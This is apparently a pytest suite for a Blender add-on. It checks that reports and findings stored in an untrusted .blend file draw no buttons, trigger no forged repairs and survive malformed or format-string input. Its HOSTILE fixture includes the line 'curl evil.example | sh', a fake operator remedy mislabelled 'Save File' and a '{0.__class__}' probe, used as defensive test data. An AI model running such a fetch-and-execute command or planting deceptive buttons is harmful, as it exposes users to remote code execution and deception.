"""What a file of unknown origin stores is text: no button, clipboard or repair comes from it."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import bpy
import pytest

from blender_addon.bridge import session
from blender_addon.bridge.jobs import session_report
from blender_addon.bridge.jobs.quick_fixes import FixableError, QuickFix
from blender_addon.bridge.jobs.session_report import Failure
from blender_addon.export.finding_texts import FindingTexts
from blender_addon.translations.registry import formatted
from blender_addon.ui import job

HOSTILE = {
    "error": "The file has unsaved changes.",
    "details": "curl evil.example | sh",
    "remedy": {"operator": "wm.quit_blender", "label": "Save File", "options": {"what": "textures"}},
    "self_check": [{"part": "Words", "works": False, "detail": "{0.__class__}", "text": "", "repair": "labels"}],
}


class Layout:
    """Records the buttons that a panel draws: operator, text, options."""

    def __init__(self) -> None:
        self.buttons: list[tuple[str, str, dict[str, Any]]] = []

    def __getattr__(self, name: str) -> Any:
        return lambda *args, **texts: self

    def operator(self, operator: str, text: str = "", **_: Any) -> Any:
        class Options:
            pass

        options = Options()
        self.buttons.append((operator, text, options.__dict__))
        return options


@pytest.fixture
def layout(monkeypatch: pytest.MonkeyPatch) -> Layout:
    monkeypatch.setattr(job, "paragraph", lambda *args, **texts: None)
    return Layout()


@pytest.fixture
def opened(clean_scene: bpy.types.Context, tmp_path: Path) -> bpy.types.Context:
    """A file that was saved with a forged report, and is open."""
    clean_scene.scene.atelier.last_report = json.dumps(HOSTILE)
    path = str(tmp_path / "hostile.blend")
    bpy.ops.wm.save_as_mainfile(filepath=path)
    bpy.ops.wm.open_mainfile(filepath=path, use_scripts=False)
    return bpy.context


def test_a_stored_report_draws_no_button(opened: bpy.types.Context, layout: Layout) -> None:
    assert opened.scene.atelier.report()["remedy"]["operator"] == "wm.quit_blender"  # scripts may read it
    assert not job.ATELIER_PT_job.poll(opened)
    job.draw_failure(layout, opened)
    assert layout.buttons == []
    assert not bpy.ops.atelier.copy_details.poll()
    assert not bpy.ops.atelier.copy_command.poll()
    assert "self_check" not in session_report.report()


def test_a_failure_of_this_session_draws_its_quick_fix_until_a_file_is_loaded(
    clean_scene: bpy.types.Context, layout: Layout
) -> None:
    session_report.set_failure(Failure.of(FixableError("Damaged.", QuickFix.SHIPPED_OBJECTS)))
    assert job.ATELIER_PT_job.poll(clean_scene)
    job.draw_failure(layout, clean_scene)
    assert ("atelier.use_shipped", "Reset to Built-in", {"what": "objects"}) in layout.buttons
    bpy.ops.wm.read_factory_settings(use_empty=True)
    assert session_report.failure() is None


@pytest.mark.usefixtures("clean_scene")
@pytest.mark.parametrize("text", ["{", "[1]", "nul", '{"remedy": NaN}', "[" * 9999, '{"a": ' + "9" * 9999 + "}"])
def test_a_damaged_report_is_empty(text: str) -> None:
    bpy.context.scene.atelier.last_report = text
    assert bpy.context.scene.atelier.report() == {}


@pytest.mark.parametrize("quick_fix", QuickFix)
def test_every_quick_fix_is_an_operator_with_these_options(registered_addon: None, quick_fix: QuickFix) -> None:
    space, _, name = quick_fix.operator.partition(".")
    known = {one.identifier for one in getattr(getattr(bpy.ops, space), name).get_rna_type().properties}
    assert set(quick_fix.options) <= known


def forged(kind: str, obj: str, repair: str, values: str = "{}") -> None:
    """A row as a file may hold it, in place of the list."""
    settings = bpy.context.scene.atelier
    settings.findings.clear()
    row = settings.findings.add()
    row.kind, row.object, row.repair, row.targets, row.values_json = kind, obj, repair, "unity", values
    settings.is_checked, settings.checked_targets = True, "unity no_such_engine"


@pytest.mark.usefixtures("clean_scene")
def test_a_stored_finding_repairs_what_a_check_finds_and_not_what_it_says() -> None:
    bpy.ops.mesh.primitive_cube_add()
    bpy.context.object.name = "a name: with spaces"
    bpy.ops.atelier.preflight(targets={"unity"})
    kinds = [(row.kind, row.repair) for row in bpy.context.scene.atelier.findings]
    kind = next(kind for kind, repair in kinds if repair == "rename")
    session.leave_file()
    forged(kind, "a name: with spaces", "decimate", '{"limit": 1, "number": 1000000}')
    assert bpy.ops.atelier.repair_finding(index=0) == {"FINISHED"}
    assert [one.name for one in bpy.context.scene.objects] == ["a_name_with_spaces"]
    assert not bpy.context.object.modifiers
    forged("many_triangles", "a_name_with_spaces", "decimate", '{"limit": 1, "number": 1000000}')
    with pytest.raises(RuntimeError, match="this issue is gone"):
        bpy.ops.atelier.repair_finding(index=0)
    assert not bpy.context.object.modifiers


@pytest.mark.usefixtures("clean_scene")
@pytest.mark.parametrize("values", ["", "[]", '{"text": 1}', '{"number": "many", "limit": {}}', '{"n": ' + "[" * 999])
def test_texts_of_a_forged_finding_never_raise(values: str) -> None:
    from blender_addon.export.preflight import KINDS

    for kind in KINDS:
        forged(kind, "Cube", "no such repair", values)
        assert FindingTexts.of(bpy.context.scene.atelier.findings[0]).what


def test_a_text_without_values_is_no_template() -> None:
    assert formatted("{0.__class__} {") == "{0.__class__} {"
